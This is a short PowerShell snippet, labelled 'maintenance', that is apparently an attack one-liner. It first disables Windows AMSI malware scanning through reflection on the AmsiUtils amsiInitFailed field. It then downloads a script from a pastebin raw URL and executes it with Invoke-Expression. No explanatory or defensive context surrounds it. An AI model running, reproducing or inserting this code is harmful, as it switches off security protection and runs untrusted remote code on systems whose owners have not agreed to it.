Invoke-Expression -Command '# maintenance 6573 v2
[Ref].Assembly.GetType(''System.Management.Automation.AmsiUtils'').GetField(''amsiInitFailed'',''NonPublic,Static'').SetValue($null,$true)
IEX (New-Object Net.WebClient).DownloadString(''https://pastebin.com/raw/azureadm1n'')
'